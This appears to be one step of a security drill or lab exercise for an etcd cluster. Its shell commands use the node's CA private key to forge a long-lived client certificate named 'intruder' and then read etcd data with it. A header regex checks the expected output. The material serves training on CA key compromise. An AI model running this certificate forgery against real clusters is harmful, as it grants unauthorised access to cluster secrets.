# Forge an administrator on that node
# @zh: 在该节点上伪造管理员
# @on: etcd3
# @matches: ^/drill/first\n(?:.*\n)*?from etcd1$

openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=intruder -keyout /tmp/intruder-key.pem -out /tmp/intruder.csr
echo extendedKeyUsage=clientAuth > /tmp/intruder.ext
openssl x509 -req -in /tmp/intruder.csr -CA /etc/etcd/pki/ca.pem -CAkey /etc/etcd/pki/ca-key.pem \
  -set_serial 1 -days 3650 -extfile /tmp/intruder.ext -out /tmp/intruder.pem
etcdctl --endpoints=https://127.0.0.1:2379 --cacert=/etc/etcd/pki/ca.pem \
  --cert=/tmp/intruder.pem --key=/tmp/intruder-key.pem get /drill/first
